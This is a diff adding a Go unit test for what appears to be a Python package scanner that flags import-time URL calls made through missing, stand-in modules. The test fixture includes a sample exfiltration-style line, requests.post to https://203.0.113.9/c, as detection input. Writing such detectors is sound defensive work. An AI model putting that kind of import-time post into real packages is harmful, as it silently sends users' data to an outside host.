@@ -159,3 +159,18 @@ func TestImportRan(t *testing.T) {
 		t.Errorf("importRan(nothing) = %q", got)
 	}
 }
+
+func TestStandInFindings(t *testing.T) {
+	mods := []report.Module{
+		{Name: "quiet", How: "name", StandInPass: &report.StandInPass{OK: true, StandInCalls: []string{"requests.Session()"}}},
+		{Name: "loud", How: "name", StandInPass: &report.StandInPass{OK: true, StandInCalls: []string{"requests.post('https://203.0.113.9/c', data='x')", "requests.get.json()"}}},
+	}
+	got := standInFindings(mods)
+	want := []report.Finding{{Source: "behavior", Phase: "import", RuleID: "import-url-via-missing-module", Severity: report.SeverityMedium,
+		Title:   "Import-time call to a URL through a missing module",
+		Message: "Importing loud called a module that is not installed with a URL (https://203.0.113.9/c); PYTI gave it a stand-in, so nothing was sent.",
+		Count:   1, Evidence: []report.Evidence{{Kind: "stand-in-call", Detail: "requests.post('https://203.0.113.9/c', data='x')"}}}}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("findings (-want +got):\n%s", diff)
+	}
+}
